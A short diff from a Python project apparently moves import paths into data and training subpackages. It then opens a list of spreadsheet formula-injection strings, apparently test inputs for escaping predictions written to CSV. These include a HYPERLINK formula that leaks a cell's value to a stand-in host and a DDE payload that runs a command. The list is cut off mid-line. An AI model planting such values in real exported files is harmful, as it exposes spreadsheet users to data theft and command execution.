@@ -8,10 +8,10 @@ import json
 
 import numpy as np
 
-from safsd_glnet import files
-from safsd_glnet.prediction import UtterancePrediction, write_predictions
-from safsd_glnet.train import Predictions
-from safsd_glnet.train import write_predictions as write_test_predictions
+from safsd_glnet.data import atomic_files as files
+from safsd_glnet.training.prediction import UtterancePrediction, write_predictions
+from safsd_glnet.training.train import Predictions
+from safsd_glnet.training.train import write_predictions as write_test_predictions
 
 # The cells of the issue, and the other starts a spreadsheet reads as a formula.
 HOSTILE = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(A1:A9)",
